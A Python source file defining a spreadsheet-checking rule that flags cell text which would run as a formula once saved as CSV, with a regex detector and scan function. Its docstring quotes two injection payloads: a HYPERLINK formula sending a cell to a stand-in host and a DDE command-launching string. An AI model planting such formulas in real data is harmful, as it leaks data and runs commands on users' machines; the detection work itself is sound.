"""Text that a spreadsheet would run as a formula.

**What** A cell holds text, not a formula, that begins with = (or full-width ＝), or with +, - or @ and the name of a
function, a tab or a line break before it or not. Phone numbers such as +44..., negative numbers and notes that begin
with a dash are no formulas.

**Why** Such text comes from web forms and imports. In this cell it is harmless; once the book is saved as CSV and
opened again, it runs: it can send cells to a stranger (OWASP, CSV Injection).

**Bad** `=HYPERLINK("http://x.example?"&A2,"click")` as a company's name; `@SUM(1+9)*cmd|' /C calc'!A0`.

**Good** The name without the sign, or the row removed.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from crmsheet.check.rule import Hit, Rule
from crmsheet.core.book import Table
from crmsheet.core.context import Context
from crmsheet.core.findings import Severity
from crmsheet.core.messages import N_
from crmsheet.core.rules import RuleCard
from crmsheet.core.schema import TableSchema

_FIRST = frozenset("=＝+＋-－@＠\t\r\n")
_FORMULA = re.compile(r"[\t\r\n]*(?:[=＝]\s*[-+(A-Za-z0-9\"'$@]|[+＋\-－@＠][^\s]{0,40}?[A-Za-z][A-Za-z0-9._]*[(|!])")

_TEXT = N_("the text {value} would run as a formula once saved as CSV; remove the first character or the row")


def is_formula_text(text: str) -> bool:
    """Whether a text would run as a formula if it were typed into a cell."""
    return text[:1] in _FIRST and _FORMULA.match(text) is not None


def _scan(table: Table, schema: TableSchema, context: Context) -> Iterator[Hit]:  # noqa: ARG001  (the form of a scan)
    for letters in map(str, table.cells.columns):
        rows = table.cells.index
        for at, cell in enumerate(table.cells[letters].tolist()):
            if type(cell) is str and cell[:1] in _FIRST and is_formula_text(cell):
                yield Hit(int(rows[at]), letters, cell, _TEXT)


RULE = Rule(RuleCard("CRM603", Severity.warning, N_("Text that would run as a formula")), scan=_scan)
